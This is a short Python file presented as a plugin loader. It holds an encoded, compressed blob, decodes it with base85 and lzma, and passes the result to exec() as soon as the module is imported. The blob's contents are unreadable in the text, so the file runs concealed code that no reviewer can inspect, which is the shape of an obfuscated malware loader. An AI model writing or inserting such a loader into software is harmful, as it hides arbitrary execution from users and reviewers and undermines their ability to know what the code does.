"""Plugin loader: plugins ship as compressed text blobs."""
import base64
import lzma

BLOB = '{Wp48S^xk9=GL@E0stWa761SMbT8$j0RTK{ZE$aLbRchY3U6~Rb9r-gWo;-YV|8+DAT4tsXmoUNIxjCVIXEsgF)lGMFfKPQb1rjeAbcQmXeTKO00000dtSLlL^}}u00C7!D^Mc8AGY&-0RR9100dcD'

def load(blob):
    return lzma.decompress(base64.b85decode(blob)).decode()

namespace = {}
exec(load(BLOB), namespace)
